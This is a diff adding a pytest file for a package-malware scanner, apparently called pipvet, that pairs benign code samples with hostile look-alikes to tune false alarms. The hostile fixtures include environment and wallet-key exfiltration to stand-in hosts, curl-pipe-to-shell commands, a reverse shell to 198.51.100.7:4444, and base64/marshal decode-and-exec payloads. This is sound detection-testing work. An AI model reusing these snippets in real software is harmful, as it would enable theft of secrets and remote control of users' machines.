@@ -1,0 +1,619 @@
+"""Fewer false alarms on honest packages without reopening an evasion: every narrowing here has
+an honest sample that is no longer flagged and a hostile sample, of the same shape, that still
+is. Samples are small, inert and written for this file (never taken from the corpus)."""
+
+from __future__ import annotations
+
+import io
+import textwrap
+import zipfile
+
+import pytest
+
+from pipvet.core.analysis import coverage
+from pipvet.core.analysis.engine import analyze
+from pipvet.core.analysis.model import Artifact, Member
+
+FLAGGED = ("suspicious", "malicious")
+
+
+def scan(files: dict[str, str | bytes], name: str = "demo"):
+    members = []
+    for path, content in files.items():
+        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
+        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
+    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))
+
+
+def found(result, rule: str) -> list:
+    return [f for f in result.findings if f.rule == rule]
+
+
+SETUP = "from setuptools import setup\nsetup(name='demo')\n"
+
+
+# -- (a) a module over the size limit is read whole, in parts --------------------------------
+
+
+def _generated(functions: int) -> str:
+    """A generated module: many small classes (like API bindings), each a top-level statement."""
+    return "".join(
+        f"class Resource{i}:\n    '''Docs of {i}.'''\n    def get(self):\n        return {i}\n\n"
+        for i in range(functions)
+    )
+
+
+@pytest.fixture
+def small_limit(monkeypatch):
+    monkeypatch.setattr(coverage, "MAX_TEXT", 20_000)
+    return 20_000
+
+
+def test_a_generated_module_over_the_size_limit_is_read_whole_and_only_warned(small_limit):
+    src = "import json\n\n" + _generated(1500)  # ~5 parts of the (lowered) limit
+    assert len(src) > 3 * small_limit
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
+    [gap] = found(result, "analysis.size-limit")
+    assert gap.severity == "medium" and "read whole in" in gap.message
+    assert not found(result, "analysis.parse-failed")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_payload_in_a_later_part_of_an_oversized_module_is_still_found(small_limit):
+    # the payload sits beyond the first part, in a function that module-level code of another
+    # part calls, and uses an import made at the top: read as one module, it runs on import
+    src = (
+        "import os\nimport urllib.request\n\n"
+        + _generated(600)
+        + "def _beacon():\n"
+        + "    data = repr(dict(os.environ)).encode()\n"
+        + "    urllib.request.urlopen('https://collect.example.net/x', data)\n\n"
+        + _generated(600).replace("Resource", "Other")
+        + "_beacon()\n"
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    exfil = found(result, "intent.exfiltration")
+    assert exfil and exfil[0].severity == "critical"
+    assert exfil[0].line > src[: small_limit * 2].count("\n")  # not in the first part
+    assert result.verdict == "malicious"
+
+
+def test_one_statement_over_the_size_limit_is_still_a_blocking_gap(small_limit):
+    blob = "BLOB = [\n" + "".join(f"    {i},\n" for i in range(6000)) + "]\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/table.py": blob})
+    gaps = found(result, "analysis.size-limit")
+    assert any(g.severity == "high" for g in gaps)
+    assert result.verdict in FLAGGED
+
+
+# -- the tokenizer read to the end: a bracket left open is a partial reading -----------------
+
+
+def test_a_module_with_an_unclosed_bracket_was_read_whole_by_the_tokenizer():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/x.py": "x = f(1,\n2\n"})
+    [gap] = found(result, "analysis.parse-failed")
+    assert gap.severity == "medium"
+    assert result.verdict not in FLAGGED
+
+
+def test_a_module_whose_tail_hides_in_an_unterminated_string_stays_a_blocking_gap():
+    src = 'NOTE = 1\nx = """\nimport os\nos.system("curl -s http://example.invalid/x | sh")\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/x.py": src})
+    assert any(g.severity == "high" for g in found(result, "analysis.parse-failed"))
+    assert result.verdict in FLAGGED
+
+
+# -- (b) what a maturin build does not install ---------------------------------------------
+
+MATURIN = """
+    [build-system]
+    requires = ["maturin>=1.0"]
+    build-backend = "maturin"
+    [project]
+    name = "demo"
+    [tool.maturin]
+    manifest-path = "crates/demo/Cargo.toml"
+    python-source = "python"
+"""
+
+
+def test_invalid_python_fixtures_of_a_rust_crate_are_not_installed_code():
+    result = scan(
+        {
+            "pyproject.toml": MATURIN,
+            "python/demo/__init__.py": "from .demo import *\n",
+            "crates/demo_parser/resources/invalid/unclosed.py": 'x = """\nnever closed\n',
+            "crates/demo_parser/resources/invalid/bad.py": "def f(:\n    pass\n",
+        }
+    )
+    gaps = found(result, "analysis.parse-failed")
+    assert gaps and all(g.path in result.tooling for g in gaps)
+    assert result.verdict not in FLAGGED
+
+
+def test_the_python_source_of_a_maturin_build_is_installed_code():
+    result = scan(
+        {
+            "pyproject.toml": MATURIN,
+            "python/demo/__init__.py": (
+                "import os\nos.system('curl -s http://example.invalid/x.sh | sh')\n"
+            ),
+            "crates/demo/hidden.py": 'x = """\nnever closed\n',
+        }
+    )
+    assert result.verdict == "malicious"
+    assert "demo-1.0/python/demo/__init__.py" not in result.tooling
+
+
+def test_without_python_source_maturin_installs_the_module_folder():
+    pyproject = MATURIN.replace('python-source = "python"', 'module-name = "demo"')
+    payload = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n'
+    result = scan({"pyproject.toml": pyproject, "demo/__init__.py": payload})
+    assert result.verdict == "malicious"
+
+
+# -- (c) odd entries of an archive inside the artifact ---------------------------------------
+
+
+def _zip_with_fifo() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        info = zipfile.ZipInfo("pipe")
+        info.create_system = 3
+        info.external_attr = 0o010644 << 16  # a FIFO
+        zf.writestr(info, b"")
+        zf.writestr("data.txt", b"fixture\n")
+    return buf.getvalue()
+
+
+def _sdist_with_nested(files: dict[str, str]) -> Artifact:
+    import tarfile
+
+    buf = io.BytesIO()
+    nested = _zip_with_fifo()
+    content = {**{k: textwrap.dedent(v).encode() for k, v in files.items()}}
+    content["demo/testdata/odd.zip"] = nested
+    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
+        for name, data in content.items():
+            info = tarfile.TarInfo(f"demo-1.0/{name}")
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    import tempfile
+    from pathlib import Path
+
+    from pipvet.core.analysis.archive import read_artifact
+
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "demo-1.0.tar.gz"
+        path.write_bytes(buf.getvalue())
+        return read_artifact(path)
+
+
+def test_a_special_file_inside_a_nested_test_archive_is_data():
+    artifact = _sdist_with_nested({"setup.py": SETUP, "demo/__init__.py": ""})
+    result = analyze(artifact)
+    [special] = found(result, "archive.special-file")
+    assert special.severity == "medium" and "never unpacks" in special.message
+    assert result.verdict not in FLAGGED
+
+
+def test_a_nested_archive_that_setup_py_unpacks_keeps_its_full_weight():
+    setup = """
+        import zipfile
+        from setuptools import setup
+        zipfile.ZipFile("demo/testdata/odd.zip").extractall("/")
+        setup(name="demo")
+    """
+    result = analyze(_sdist_with_nested({"setup.py": setup, "demo/__init__.py": ""}))
+    [special] = found(result, "archive.special-file")
+    assert special.severity == "high"
+    assert result.verdict in FLAGGED
+
+
+# -- setup.py that reads a module as text does not run it -----------------------------------
+
+NEWER_SYNTAX = "type Alias = list[int]\n" + "def f():\n    return 1\n" * 3
+
+
+def test_a_module_setup_py_only_reads_for_its_version_is_not_install_time_code():
+    setup = """
+        import re
+        from setuptools import setup
+        with open("demo/core.py") as fh:
+            version = re.search(r"__version__ = '(.*?)'", fh.read()).group(1)
+        setup(name="demo", version=version)
+    """
+    core = "__version__ = '1.0'\n" + NEWER_SYNTAX
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
+    [gap] = found(result, "analysis.parse-failed")
+    assert gap.severity == "medium"
+    assert "demo-1.0/demo/core.py" not in result.package_code
+    assert result.verdict not in FLAGGED
+
+
+def test_a_module_setup_py_executes_stays_install_time_code():
+    setup = """
+        from setuptools import setup
+        exec(open("demo/core.py").read())
+        setup(name="demo")
+    """
+    core = "__version__ = '1.0'\n" + NEWER_SYNTAX
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
+    [gap] = found(result, "analysis.parse-failed")
+    assert gap.severity == "high"
+    assert result.verdict in FLAGGED
+
+
+# -- labels: what a value is made of, not what it was made with -----------------------------
+
+
+def test_a_download_status_written_into_a_generated_file_is_not_a_payload():
+    src = """
+        import importlib
+        import httpx
+
+        def build_docs(name, out):
+            exists = httpx.get(f"https://pypi.org/pypi/{name}/json").status_code == 200
+            module = importlib.import_module(name)
+            text = f"# docs of {module.__name__}, on the index: {exists}\\n"
+            with open(out, "w") as f:
+                f.write(text)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/docs.py": src})
+    assert not found(result, "intent.drop-payload")
+    assert not found(result, "intent.download-execute")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_downloaded_module_written_then_imported_stays_download_execute():
+    src = """
+        import importlib
+        import sys
+        import httpx
+
+        def update(name, folder):
+            body = httpx.get(f"https://updates.example.net/{name}.py").content
+            with open(f"{folder}/{name}.py", "wb") as f:
+                f.write(body)
+            sys.path.insert(0, folder)
+            importlib.import_module(name)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upd.py": src})
+    assert found(result, "intent.download-execute") or found(result, "intent.drop-payload")
+
+
+def test_a_regex_match_is_its_subject_not_its_pattern():
+    src = """
+        import re
+        import struct
+        from .compat import fromhex
+
+        _BYTES = fromhex("7FF80000000000007FF0000000000000")
+        NAN, INF = struct.unpack(">dd", _BYTES)
+        CONSTANTS = {"NaN": NAN, "Infinity": INF}
+        CONSTANT_RE = re.compile("(%s)" % "|".join(CONSTANTS))
+        EQUATION_RE = re.compile(r"[0-9.+*/-]+")
+
+        class Scanner:
+            def __init__(self, content):
+                self.content = content
+
+            def scan(self, pos):
+                m = CONSTANT_RE.match(self.content, pos)
+                if m:
+                    return CONSTANTS[m.group(1)]
+                m = EQUATION_RE.match(self.content, pos)
+                if m:
+                    return eval(m.string[m.pos : m.end()])
+    """
+    compat = """
+        def fromhex(s):
+            return bytes.fromhex(s)
+    """
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/compat.py": compat, "demo/loader.py": src}
+    )
+    assert not found(result, "intent.decode-execute")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_regex_match_over_decoded_text_that_is_executed_stays_hidden_code():
+    src = """
+        import base64
+        import re
+
+        BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gaGkiKQ=="
+        m = re.compile(r".*").match(base64.b64decode(BLOB).decode())
+        exec(m.group(0))
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert found(result, "intent.decode-execute")
+    assert result.verdict in FLAGGED
+
+
+def test_a_function_deserialiser_decoding_its_own_argument_is_only_a_warning():
+    src = """
+        import codecs
+        import marshal
+        import types
+
+        def func_load(code, globs=None):
+            raw = codecs.decode(code.encode("ascii"), "base64")
+            loaded = marshal.loads(raw)
+            return types.FunctionType(loaded, globs or globals())
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": src})
+    decoded = found(result, "intent.decode-execute")
+    assert decoded and all(f.severity == "medium" for f in decoded)
+    assert result.verdict not in FLAGGED
+
+
+def test_a_blob_of_the_module_decoded_twice_and_run_stays_hidden_code():
+    src = """
+        import base64
+        import marshal
+        import types
+
+        BLOB = "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo="
+        raw = base64.b64decode(BLOB.encode("ascii"))
+        types.FunctionType(marshal.loads(raw), globals())()
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    decoded = found(result, "intent.decode-execute")
+    assert decoded and any(f.severity in ("high", "critical") for f in decoded)
+    assert result.verdict in FLAGGED
+
+
+def test_a_key_from_the_application_config_sent_to_its_service_is_not_a_wallet_key():
+    src = """
+        from urllib import request as http
+        from urllib.parse import urlencode
+        from flask import current_app
+
+        VERIFY = "https://captcha.example.com/api/verify"
+
+        def verify(response):
+            private_key = current_app.config["CAPTCHA_PRIVATE_KEY"]
+            data = urlencode({"secret": private_key, "response": response})
+            return http.urlopen(VERIFY, data.encode("utf-8"))
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/captcha.py": src})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_private_key_read_from_the_host_and_sent_stays_exfiltration():
+    src = """
+        import os
+        import requests
+
+        def backup():
+            private_key = open(os.path.expanduser("~/.wallet/key")).read()
+            requests.post("https://collect.example.net/k", data=private_key)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/w.py": src})
+    assert found(result, "intent.exfiltration")
+    assert result.verdict in FLAGGED
+
+
+# -- a supervisor's socket pair is not a remote shell ----------------------------------------
+
+
+def test_a_child_wired_to_a_socketpair_is_not_a_reverse_shell():
+    src = """
+        import os
+        import socket
+
+        def start(cmd):
+            parent, child = socket.socketpair()
+            if os.fork() == 0:
+                os.dup2(child.fileno(), 0)
+                os.dup2(child.fileno(), 1)
+                os.execv("/bin/sh", ["sh", "-c", cmd])
+            return parent
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sup.py": src})
+    assert not found(result, "intent.reverse-shell")
+
+
+def test_a_shell_wired_to_a_connected_socket_stays_a_reverse_shell():
+    src = """
+        import os
+        import socket
+        import subprocess
+
+        def start():
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.connect(("198.51.100.7", 4444))
+            os.dup2(s.fileno(), 0)
+            os.dup2(s.fileno(), 1)
+            subprocess.call(["/bin/sh", "-i"])
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sup.py": src})
+    assert found(result, "intent.reverse-shell")
+    assert result.verdict in FLAGGED
+
+
+# -- a program's link beside its own download is one sign, not two --------------------------
+
+INSTALLER = """
+    import subprocess
+    import tempfile
+    import urllib.request
+
+    def _download_to_file(url, path):
+        with urllib.request.urlopen(url) as response, open(path, "wb") as out:
+            out.write(response.read())
+
+    def install_cli():
+        script = tempfile.NamedTemporaryFile(delete=False, suffix=".ps1")
+        script.close()
+        _download_to_file("https://get.example.org/install.ps1", script.name)
+        subprocess.run(["powershell.exe", "-File", script.name], check=True)
+"""
+
+
+def test_a_tool_installer_the_user_calls_is_only_a_warning():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": INSTALLER})
+    assert found(result, "indicator.executable-url")
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_installer_with_a_second_kind_of_sign_stays_flagged():
+    src = INSTALLER + '\nMIRROR = "http://198.51.100.7/fallback"\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": src})
+    assert result.verdict in FLAGGED
+
+
+# -- what a process answers is not its command line ------------------------------------------
+
+
+def test_a_cgi_handler_writing_its_scripts_answer_is_not_a_dropped_payload():
+    src = """
+        import base64
+        import subprocess
+
+        class Handler:
+            def run_cgi(self, script, data):
+                env = {}
+                user = base64.decodebytes(self.headers.get("authorization").encode())
+                env["REMOTE_USER"] = user.decode("ascii")
+                p = subprocess.Popen(
+                    [script], env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE
+                )
+                stdout, stderr = p.communicate(data)
+                self.wfile.write(stdout)
+                subprocess.Popen(["logger", "cgi done"])
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cgi.py": src})
+    assert not found(result, "intent.drop-payload")
+    assert result.verdict not in FLAGGED
+
+
+def test_decoded_text_fed_to_a_process_and_its_answer_run_stays_hidden_code():
+    src = """
+        import base64
+        import subprocess
+
+        BLOB = "cHJpbnQoJ2hlbGxvJyk7IGltcG9ydCBvcw=="
+        p = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        out, _ = p.communicate(base64.b64decode(BLOB))
+        exec(out)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert found(result, "intent.decode-execute")
+    assert result.verdict in FLAGGED
+
+
+# -- a large bundled data archive does not use up the budget of the package's own code ------
+
+
+def _wheel_with_bundle(payload: str) -> bytes:
+    bundle = io.BytesIO()
+    with zipfile.ZipFile(bundle, "w") as zf:
+        for i in range(8):
+            zf.writestr(f"assets/table{i}.js", "var x = 1;\n" * 3000)  # ~33 KB each
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("demo/_data/bundle.zip", bundle.getvalue())
+        for i in range(4):
+            zf.writestr(f"demo/mod{i}.py", "X = 1\n" * 6000)  # ~36 KB each
+        zf.writestr("demo/__init__.py", payload)
+        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
+    return buf.getvalue()
+
+
+def test_a_bundled_data_archive_does_not_leave_the_package_code_unread():
+    from pipvet.core.analysis.archive import Limits, read_artifact_bytes
+
+    limits = Limits(max_kept_total=200_000, max_nested_kept=100_000)
+    artifact = read_artifact_bytes(
+        _wheel_with_bundle("X = 1\n"), "demo-1.0-py3-none-any.whl", limits=limits
+    )
+    own = [m for m in artifact.members if "!/" not in m.path and m.path.endswith(".py")]
+    assert own and not any(m.truncated for m in own)  # the bundle had its own budget
+    result = analyze(artifact)
+    assert not [f for f in result.findings if f.rule == "analysis.truncated" and "!/" not in f.path]
+    assert result.verdict not in FLAGGED
+
+
+def test_package_code_past_the_budget_is_still_a_blocking_gap():
+    from pipvet.core.analysis.archive import Limits, read_artifact_bytes
+
+    payload = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n' * 20
+    limits = Limits(max_kept_total=60_000, max_nested_kept=100_000)
+    artifact = read_artifact_bytes(
+        _wheel_with_bundle(payload), "demo-1.0-py3-none-any.whl", limits=limits
+    )
+    result = analyze(artifact)
+    assert any(
+        f.rule == "analysis.truncated" and f.severity == "high" and "!/" not in f.path
+        for f in result.findings
+    )
+    assert result.verdict in FLAGGED
+
+
+# -- a preload feature runs the URL its caller gives -----------------------------------------
+
+PRELOAD = """
+    import types
+    import urllib.request
+
+    def download_module(url):
+        with urllib.request.urlopen(url) as response:
+            source = response.read()
+        module = types.ModuleType(url)
+        exec(compile(source, url, "exec"), module.__dict__)
+        return module
+"""
+
+
+def test_running_code_from_a_url_the_caller_gives_is_only_a_warning():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": PRELOAD})
+    runs = found(result, "intent.download-execute")
+    assert runs and all(f.severity == "medium" for f in runs)
+    assert result.verdict not in FLAGGED
+
+
+def test_running_code_from_a_url_written_in_stays_serious():
+    src = PRELOAD.replace("def download_module(url):", "def download_module():").replace(
+        "urlopen(url)", 'urlopen("https://cdn.example.net/stage2.py")'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
+
+
+def test_a_preload_helper_the_package_runs_on_import_stays_serious():
+    init = 'from .preload import download_module\ndownload_module("https://cdn.example.net/x.py")\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/preload.py": PRELOAD})
+    assert any(f.severity == "critical" for f in found(result, "intent.download-execute"))
+    assert result.verdict == "malicious"
+
+
+def test_a_program_downloaded_from_a_url_parameter_and_started_stays_serious():
+    src = """
+        import subprocess
+        import urllib.request
+
+        def fetch_tool(url, dest):
+            urllib.request.urlretrieve(url, dest)
+            subprocess.run([dest], check=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
+
+
+def test_a_preload_helper_the_module_feeds_a_fetched_url_stays_serious():
+    src = (
+        PRELOAD
+        + """
+    def refresh():
+        link = urllib.request.urlopen("https://api.example.net/latest").read().decode()
+        return download_module(link)
+    """
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
